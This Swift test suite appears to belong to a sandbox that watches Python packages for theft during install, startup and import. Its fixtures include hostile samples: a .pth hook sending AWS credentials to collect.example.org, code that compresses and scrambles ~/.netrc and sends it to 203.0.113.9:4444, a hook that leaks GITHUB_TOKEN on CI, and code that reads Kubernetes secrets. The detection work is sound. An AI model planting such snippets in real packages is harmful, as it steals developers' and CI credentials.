import Evidence
import TestSupport
import Testing

@testable import Sandbox

/// Imitations of thieves are made here and speak to the sink alone; each is installed by the machine's own pip.
@Suite("Observations", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
struct ObserverTests {
  /// Beside a package with a startup file of its own, which must be blamed for nothing.
  @Test(
    "of an honest package come to nothing, and all that is usual is marked",
    .enabled(if: Stages.hasPython, Stages.noPython))
  func honest() throws {
    let observation = try Stages.observe(
      [("harbour.py", "import os\nos.environ.get('HOME')\n"), ("harbour.pth", "import os\n")],
      modules: ["harbour"], phases: [.startup, .import]
    ) { request in
      request.dependencies = [Stages.wheel("zebra", [("zebra.py", ""), ("zebra.pth", "import os\n")])]
    }
    #expect(observation.evidence.isEmpty, "\(observation.evidence)")
    #expect(observation.unobserved.isEmpty && observation.isComplete, "\(observation.unobserved)")
    #expect(observation.tier == .namespaces && observation.refusal == nil)
    #expect(observation.python == Stages.python?.version)
    #expect(
      observation.stages.map(\.name) == [
        "pip install harbour-1.0-py3-none-any.whl", "python -c pass", "python -m pip --version", "python -m site",
        "python -c pass, by a child", "import harbour",
      ])
    #expect(observation.stages.allSatisfy { $0.end == .exited(0) && $0.duration > 0 })
    for stage in observation.stages.dropFirst() {
      let unusual = stage.events.filter { !$0.isUsual }
      let isOwn = unusual.allSatisfy { "\($0.action)".contains("harbour") }
      #expect(isOwn && !unusual.isEmpty, "\(stage.name): \(unusual.map(\.action))")
      let causes = Set(stage.events.compactMap(\.because).compactMap { $0.split(separator: "/").last })
      #expect(causes == ["harbour.pth"], "\(stage.name)")
    }
  }

  @Test(
    "prove what a hook sends at the start of an interpreter, and tell who sent it and why",
    .enabled(if: Stages.hasPython, Stages.noPython))
  func startup() throws {
    let observation = try Stages.observe(
      [("harbour.pth", Stages.carry(".aws/credentials", to: "collect.example.org"))], phases: [.startup])
    #expect(observation.levels(.startup).isSuperset(of: [.touched, .taintedEgress, .proven]))
    #expect(observation.levels(.install).isEmpty)
    let proof = try #require(observation.evidence.first { $0.level == .proven })
    #expect(proof.decoys == ["aws-shared-credentials"])
    #expect(proof.detail.contains("collect.example.org"), "\(proof.detail)")
    let exchange = try #require(observation.event(of: proof))
    guard case .exchange(let said) = exchange.action else {
      Issue.record("\(exchange)")
      return
    }
    #expect(said.host == "collect.example.org" && said.request == "POST /x HTTP/1.1" && said.bytes > 100, "\(said)")
    #expect(said.sha256?.utf8.count == 64 && said.status == 200)
    #expect(exchange.because?.hasSuffix("harbour.pth") == true && exchange.process != nil && !exchange.isUsual)
    let stage = observation.stages[proof.stage]
    #expect(stage.events.map(\.time) == stage.events.map(\.time).sorted())
    #expect(
      stage.events.contains { event in
        event.process == exchange.process && event.because == exchange.because
          && event.action == .lookUp(name: "collect.example.org", type: "A")
      }, "\(stage.events.suffix(20))")
    let child = try #require(observation.stage("python -c pass, by a child"))
    let speakers = child.exchanges("collect.example.org").map(\.process)
    // Where a directory of packages has two names, the hook runs for both.
    #expect(Set(speakers) == [0, 1], "each interpreter spoke for itself: \(speakers)")
    let touches = observation.stages.filter { $0.phase == .startup }.flatMap(\.events).filter { event in
      if case .touch("aws-shared-credentials", _) = event.action { return true }
      return false
    }
    #expect(!touches.isEmpty && touches.allSatisfy { $0.because?.hasSuffix("harbour.pth") == true }, "\(touches)")
  }

  @Test("see what is packed and scrambled before it is sent", .enabled(if: Stages.hasPython, Stages.noPython))
  func scrambled() throws {
    let observation = try Stages.observe(
      [
        (
          "harbour.py",
          """
          import gzip, os, shutil, socket, subprocess, tempfile
          haul = tempfile.mkdtemp() + '/haul'
          with open(os.path.expanduser('~/.netrc'), 'rb') as source, gzip.open(haul, 'wb') as target:
            shutil.copyfileobj(source, target)
          subprocess.run(['true'])
          with open(haul, 'rb') as file:
            scrambled = bytes(byte ^ (number * 7 + 3) % 256 for number, byte in enumerate(file.read()))
          socket.create_connection(('203.0.113.9', 4444)).sendall(scrambled)
          """
        )
      ], modules: ["harbour"], phases: [.import])
    #expect(observation.levels(.import).isSuperset(of: [.touched, .staged, .taintedEgress]))
    let staged = observation.evidence.first { $0.level == .staged }
    #expect(staged?.decoys == ["netrc"] && staged?.detail.contains("gzip") == true, "\(String(describing: staged))")
  }

  @Test("show each persona a machine of its own", .enabled(if: Stages.hasPython, Stages.noPython))
  func personas() throws {
    let observation = try Stages.observe(
      [
        (
          "harbour.pth",
          "import os, sys; os.environ.get('GITHUB_ACTIONS') and sys.stdout.write(os.environ.get('GITHUB_TOKEN', ''))\n"
        )
      ], phases: [.startup]
    ) { $0.personas = [.laptop, .ciRunner] }
    let proven = observation.evidence.filter { $0.level == .proven }
    #expect(!proven.isEmpty, "\(observation.evidence)")
    #expect(proven.allSatisfy { observation.stages[$0.stage].persona == "ci-runner" }, "\(proven)")
  }

  @Test(
    "let a pod's client trust its cluster, and hear what it asks for", .enabled(if: Stages.hasPython, Stages.noPython))
  func cluster() throws {
    let observation = try Stages.observe(
      [
        (
          "harbour.py",
          """
          import ssl, urllib.request as u
          folder = '/var/run/secrets/kubernetes.io/serviceaccount/'
          context = ssl.create_default_context(cafile=folder + 'ca.crt')
          asked = u.Request(
            'https://10.96.0.1/api/v1/secrets', headers={'Authorization': 'Bearer ' + open(folder + 'token').read()})
          u.urlopen(asked, context=context).read()
          """
        )
      ], modules: ["harbour"], phases: [.import]
    ) { $0.personas = [.kubernetesPod] }
    let stage = try #require(observation.stage("import harbour"))
    #expect(stage.end == .exited(0), "\(observation.unobserved)")
    let exchange = stage.events.compactMap { event in
      if case .exchange(let said) = event.action { return said }
      return nil
    }.first
    #expect(exchange?.isEncrypted == true && exchange?.status == 200, "\(String(describing: exchange))")
  }
}
